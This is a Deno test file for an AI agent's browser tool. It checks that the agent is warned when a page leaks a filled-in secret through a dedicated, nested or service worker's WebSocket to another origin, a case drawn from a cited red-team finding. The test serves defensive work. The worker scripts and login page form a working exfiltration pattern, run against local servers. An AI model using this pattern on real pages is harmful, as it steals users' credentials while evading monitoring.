/**
 * A bound secret sent over a WebSocket from a worker is told (red team s15 #7): the page hands
 * the filled value to a dedicated worker, a worker inside a worker, or its service worker, and
 * that opens a socket to another origin and sends it. The socket lives on the worker's own CDP
 * session, which the watch did not listen on: the agent was told nothing. No guard holds a
 * WebSocket, so the server does get it; the agent is now told it may have been sent.
 */
import { assertEquals, assertTrue } from "./_assert.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2SecretXyz";

/** A worker's script: on a message, opens a socket to `ws` and sends `name:value`. */
const sender = (ws: string, name: string) =>
  `onmessage = (e) => { const s = new WebSocket("${ws}/${name}"); ` +
  `s.onopen = () => s.send("${name}:" + e.data); };`;

Deno.test("secret guard: a worker's WebSocket carrying a bound value is told", async (t) => {
  const got: string[] = [];
  const b = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    const { socket, response } = Deno.upgradeWebSocket(req);
    socket.onmessage = (m) => got.push(String(m.data));
    return response;
  });
  const ws = `ws://localhost:${b.addr.port}`;
  const a = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    const u = new URL(req.url);
    const js = (text: string) =>
      new Response(text, { headers: { "content-type": "text/javascript" } });
    if (u.pathname === "/dedicated.js") return js(sender(ws, "dedicated"));
    if (u.pathname === "/inner.js") return js(sender(ws, "nested"));
    if (u.pathname === "/nested.js") {
      return js(
        `const inner = new Worker("/inner.js"); onmessage = (e) => inner.postMessage(e.data);`,
      );
    }
    if (u.pathname === "/sw.js") {
      return js(`self.oninstall = () => self.skipWaiting();
self.onactivate = (e) => e.waitUntil(clients.claim());
${sender(ws, "sw")}`);
    }
    return new Response(
      `<title>login</title><input id=pw><script>
const how = new URLSearchParams(location.search).get("how");
const sw = navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready);
const w = how === "sw" ? null : new Worker("/" + how + ".js");
pw.addEventListener("input", async () => {
  if (pw.value.length < ${SECRET.length}) return;
  if (w) w.postMessage(pw.value); else (await sw).active.postMessage(pw.value);
});</script>`,
      { headers: { "content-type": "text/html" } },
    );
  });
  const origin = `http://127.0.0.1:${a.addr.port}`;
  const { mcp, close } = await startWithBoundSecret(origin, SECRET);
  try {
    for (const how of ["dedicated", "nested", "sw"]) {
      await t.step(`from a ${how} worker: told`, async () => {
        await mcp.ok("navigate", { url: `${origin}/?how=${how}`, snapshot: "none" });
        const r = await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}" });
        // No guard holds it: the server gets the value.
        await eventually(() => got.includes(`${how}:${SECRET}`), 10_000, "the worker's send");
        // Told in the fill's result, or else in a later call's (sinceLastCall).
        let text = JSON.stringify(r.structuredContent ?? r.content);
        await eventually(
          async () => {
            if (text.includes("may have been sent")) return true;
            const next = await mcp.call("get_url", {});
            text += JSON.stringify(next.structuredContent ?? next.content);
          },
          3000,
          "the report",
        ).catch(() => {});
        assertTrue(text.includes("WebSocket") && text.includes("may have been sent"), text);
        assertTrue(text.includes("PW"), text);
        assertEquals(text.includes(SECRET), false, "the value itself is not in the answer");
      });
    }
  } finally {
    await close();
    await a.shutdown();
    await b.shutdown();
  }
});
